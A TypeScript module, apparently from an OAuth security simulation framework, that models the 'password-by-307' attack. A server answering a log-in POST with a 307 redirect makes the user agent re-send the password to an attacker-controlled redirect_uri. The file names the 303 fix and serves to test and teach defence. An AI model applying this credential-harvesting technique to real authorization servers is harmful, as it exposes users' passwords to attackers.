/** A fault in what a server answers. No check of a request can find it, so a server that has it is played here. */
import { base64url } from '@lockstep/crypto/base64'
import { decodeForm, onlyValue } from '@lockstep/http/form-urlencoded'
import { type HttpResponse, readable, request } from '@lockstep/http/message'
import { empty } from '@lockstep/http/response'
import { readHtmlForm } from '../../html-form.ts'
import { withQuery } from '../../redirect-to.ts'
import { attack } from '../../scheme.ts'
import { ada, authorizationServer, mallory, userAgent } from './cast.ts'
import { at, authorizeAt, bodyOf, codeRequest, credentialsIn, expected, formTo, pkcePair } from './moves.ts'
import { userAgentOf } from './people.ts'

export const passwordBy307 = attack({
  id: 'password-by-307',
  title: 'Receive the log-in form by a redirect',
  stoppedBy: null,
  instead:
    'A redirect with 303, as this server sends it: the user agent then comes with a GET and brings no body. It costs nothing.',
  parties: [ada, userAgent, mallory, authorizationServer],
  async arrange(world) {
    const redirect_uri = `${world.origin}${world.base}/mallory/callback`
    const asked = codeRequest({ client_id: 'clipper', redirect_uri, ...pkcePair(world).challenge })
    const page = await userAgentOf(world, 'user-agent').visit(authorizeAt(world, asked))
    const { userId, password } = credentialsIn(world).resourceOwner
    const { fields } = expected(readHtmlForm(bodyOf(page)), 'a form')
    const typed = formTo(at(world, 'authorize'), [...fields, ['userId', userId], ['password', password]])
    return { typed, redirect_uri }
  },
  play(world, { typed, redirect_uri }) {
    const code = base64url.encode(world.random(32))
    const location = withQuery(redirect_uri, [['code', code]])
    const wrong: HttpResponse = empty(307, [['Location', location]])
    world.forge('user-agent', 'authorization-server', typed, wrong)
    // RFC 9110 §15.4.8: the user agent "MUST NOT change the request method", and so it sends the body again.
    const { pathname, search } = new URL(location)
    const again = request(typed.method, `${pathname}${search}`, typed.headers, typed.body)
    world.forge('user-agent', 'attacker', again, empty(204))
    return again
  },
  got({ body }) {
    const form = decodeForm(readable(body)) ?? []
    return onlyValue(form, 'password') === undefined
      ? null
      : `The password of “${onlyValue(form, 'userId')}”, which opens all that she has here.`
  },
})
